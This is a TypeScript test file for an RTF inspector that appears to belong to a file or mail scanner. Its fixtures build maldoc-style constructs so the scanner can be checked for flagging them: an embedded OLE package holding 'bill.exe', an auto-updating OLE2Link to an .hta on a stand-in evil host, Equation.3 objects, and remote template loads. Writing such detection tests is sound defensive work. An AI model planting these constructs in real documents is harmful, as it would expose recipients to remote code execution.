import { describe, expect, test } from 'vitest';
import { openRtf } from '#core/inspect/rtf/open-rtf.ts';
import { processorTime } from '../../processor-time.ts';
import { bytes } from '../draft/support/a-mail.ts';
import { aCompoundFile } from './writers/compound-file.ts';
import { anAllowance, damaged, inspectFile } from './writers/inspect-file.ts';

const PROGRAM = Buffer.from('MZ program');

describe('an RTF', () => {
  test('gives its words and the addresses of its fields, not its fonts and pictures', async () => {
    const content = await inspectRtf(
      '{\\rtf1\\ansi\\ansicpg1252{\\fonttbl{\\f0 Arial;}}{\\pict 0102}Zahlen Sie an b\\\'f6se.evil-host.com\\par{\\field{\\*\\fldinst{HYPERLINK "http://linked-host.com/a"}}{\\fldrslt here}}}',
    );
    expect(content.texts).toEqual(['Zahlen Sie an böse.evil-host.com\nHYPERLINK "http://linked-host.com/a"here']);
    expect(content.notices).toEqual([]);
  });

  test.each<[string, (hex: string) => string]>([
    ['as Word writes it', (hex) => `{\\*\\objdata ${hex}}`],
    ['over lines with blanks', (hex) => `{\\*\\objdata\r\n${hex.replace(/.{7}/g, '$& \r\n\t')}}`],
    ['with groups and words in between', (hex) => `{\\*\\objdata ${hex.slice(0, 9)}{\\*\\x ffff{00}}{\\par}\\yy12 ${hex.slice(9)}}`],
    ['with characters of other meaning', (hex) => `{\\objdata ${hex.slice(0, 20)}\\'ff\\~zz${hex.slice(20).toUpperCase()}}`],
    ['in groups of its own', (hex) => `{\\*\\objdata {${hex.slice(0, 11)}{${hex.slice(11)}}}}`],
    ['without an end', (hex) => `{\\*\\objdata ${hex}`],
  ])('with a file in a package (%s) has it as a member', async (_, write) => {
    const content = await inspectRtf(`{\\rtf1 x{\\object\\objemb{\\*\\objclass Package}${write(aPackage().toString('hex'))}}}`);
    expect(content.members).toMatchObject([{ filename: 'bill.exe', size: PROGRAM.length }]);
    expect(content.notices).toMatchObject([{ code: 'file_suspicious', details: { names: 'OLE package' } }]);
  });

  test('with raw bytes behind \\bin is read as well', async () => {
    const source = Buffer.concat([
      Buffer.from('{\\rtf1{\\*\\objdata 0105'),
      Buffer.from(`\\bin${aPackage().length - 2} `),
      aPackage().subarray(2),
      Buffer.from('}}'),
    ]);
    const { members } = await inspectFile(source, 'a.doc');
    expect(members).toMatchObject([{ filename: 'bill.exe', size: PROGRAM.length }]);
  });

  test('with an equation or a link that is followed is told of, by its name or its bytes', async () => {
    const url = Buffer.concat([
      Buffer.from('e0c9ea79f9bace118c8200aa004ba90b', 'hex'),
      u32(60),
      Buffer.from('http://evil-host.com/a.hta\0', 'utf16le'),
    ]);
    const link = anObject('OLE2Link', aCompoundFile({ '\u0001Ole': url }));
    const linked = await inspectRtf(`{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata ${link.toString('hex')}}}}`);
    expect(linked.links.map(({ value }) => value)).toContain('http://evil-host.com/a.hta');
    expect(linked.warnings.map(({ keyword }) => keyword)).toEqual(['OLE2Link', 'http://evil-host.com/a.hta']);
    const equation = anObject('Other.1', Buffer.from('02ce020000000000c000000000000046', 'hex'));
    expect((await inspectRtf(`{\\rtf1{\\*\\objdata ${equation.toString('hex')}}}`)).warnings).toMatchObject([{ keyword: 'Equation.3' }]);
    expect((await inspectRtf(`{\\rtf1{\\*\\objdata ${anObject('eQuATion.3', PROGRAM).toString('hex')}}}`)).warnings).toMatchObject([
      { keyword: 'Equation.3' },
    ]);
  });

  test('that loads its template from outside is told of; one with the template of its author is not', async () => {
    const { links, warnings } = await inspectRtf('{\\rtf1{\\*\\template http://evil-host.com/t.dotm}x}');
    expect(links.map(({ value }) => value)).toEqual(['http://evil-host.com/t.dotm']);
    expect(warnings).toMatchObject([{ effect: 'outside', keyword: 'http://evil-host.com/t.dotm' }]);
    expect((await inspectRtf('{\\rtf1{\\*\\template \\\\\\\\203.0.113.7\\\\s\\\\t.dotm}x}')).links[0]?.value).toBe(
      '\\\\203.0.113.7\\s\\t.dotm',
    );
    expect((await inspectRtf('{\\rtf1{\\*\\template C:\\\\Users\\\\me\\\\Normal.dotm}x}')).warnings).toEqual([]);
  });
});

describe('a hostile RTF', () => {
  test('cut off or with wrong bytes anywhere does not make it throw', async () => {
    const whole = bytes(
      `{\\rtf1{\\*\\template http://evil-host.com/t}{\\*\\objdata ${aPackage().toString('hex')}}{\\*\\objdata ${anObject('Word.Document.8', aCompoundFile({ a: 'x' })).toString('hex')}}}`,
    );
    for (const copy of damaged(whole, 300)) {
      await openRtf({ bytes: copy, filename: '', mimeType: 'text/rtf', passwords: [] }, anAllowance());
    }
  });

  test.each([
    ['objects that never end', '{\\*\\objdata 01'],
    ['digits', '\\objdata0'],
    ['groups', '{'],
    ['ends of groups', '\\objdata}'],
    ['words', '\\objdata\\bin9999999999 '],
    ['templates', '{\\*\\template http://'],
    ['long words', '\\objdata'.padEnd(500, 'g')],
    ['compound files', '{\\*\\objdata d0cf11'],
  ])('of half a million %s is read in a moment', async (_, piece) => {
    const source = bytes(`{\\rtf1${piece.repeat(Math.ceil(500_000 / piece.length))}`);
    const started = processorTime();
    await openRtf({ bytes: source, filename: '', mimeType: 'text/rtf', passwords: [] }, anAllowance());
    expect(processorTime() - started).toBeLessThan(1500);
  });
});

function inspectRtf(source: string) {
  return inspectFile(bytes(source), 'invoice.doc');
}

function u32(value: number): Buffer {
  const number = Buffer.alloc(4);
  number.writeUInt32LE(value);
  return number;
}

/** OLE 1: version, 2 for embedded, class, topic, item, data. */
function anObject(className: string, data: Uint8Array): Buffer {
  const name = Buffer.from(`${className}\0`);
  return Buffer.concat([u32(0x501), u32(2), u32(name.length), name, u32(0), u32(0), u32(data.length), data]);
}

function aPackage(): Buffer {
  const file = Buffer.concat([
    Buffer.from([2, 0]),
    Buffer.from('bill.exe\0C:\\x\\bill.exe\0'),
    u32(0x30000),
    u32(4),
    Buffer.from('C:\\\0'),
    u32(PROGRAM.length),
    PROGRAM,
  ]);
  return anObject('Package', file);
}
